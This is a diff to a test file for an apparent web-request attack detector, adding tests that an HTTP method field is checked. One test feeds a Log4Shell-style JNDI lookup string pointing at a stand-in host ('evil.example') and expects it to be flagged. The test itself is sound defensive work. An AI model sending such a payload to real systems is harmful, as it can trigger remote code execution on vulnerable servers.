@@ -63,3 +63,11 @@ def test_an_agent_may_carry_an_attack():
 
 def test_a_browsers_name_carries_none():
     assert judge_value(Place.AGENT, "", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0") == []
+
+
+def test_a_method_may_carry_an_attack():
+    assert judge_value(Place.METHOD, "", "${jndi:ldap://evil.example/a}")[0].cls == "log4shell"
+
+
+def test_an_ordinary_method_carries_none():
+    assert [judge_value(Place.METHOD, "", method) for method in ("GET", "PROPFIND", "M-SEARCH")] == [[], [], []]
